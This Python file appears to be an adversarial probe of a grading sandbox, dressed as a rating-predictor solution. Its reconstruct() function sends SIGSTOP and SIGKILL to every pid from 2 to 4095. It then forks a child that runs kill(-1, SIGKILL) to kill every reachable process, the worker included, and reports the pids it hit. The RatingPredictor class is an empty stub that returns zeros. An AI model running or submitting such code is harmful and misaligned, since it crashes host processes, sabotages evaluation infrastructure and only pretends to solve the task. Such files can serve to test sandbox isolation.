# ruff: noqa
"""Sends SIGKILL/SIGSTOP to every pid it can name (the zygote, a sibling, pid 1), and kill(-1)."""

import json
import os
import signal

import numpy as np


def reconstruct(R, k):
    hit = []
    for pid in range(2, 4096):
        for sig in (signal.SIGSTOP, signal.SIGKILL):
            try:
                os.kill(pid, sig)
                hit.append(pid)
            except OSError:
                pass
    if os.fork() == 0:  # a child kills everything it may, its parent (the worker) included
        try:
            os.kill(-1, signal.SIGKILL)
        finally:
            os._exit(0)
    os.wait()
    raise RuntimeError("ATTACK-RESULT " + json.dumps({"hit": sorted(set(hit))}))


class RatingPredictor:
    def __init__(self, n_factors=10):
        pass

    def fit(self, users, items, ratings, n_users, n_items):
        return self

    def predict(self, users, items):
        return np.zeros(np.shape(users))
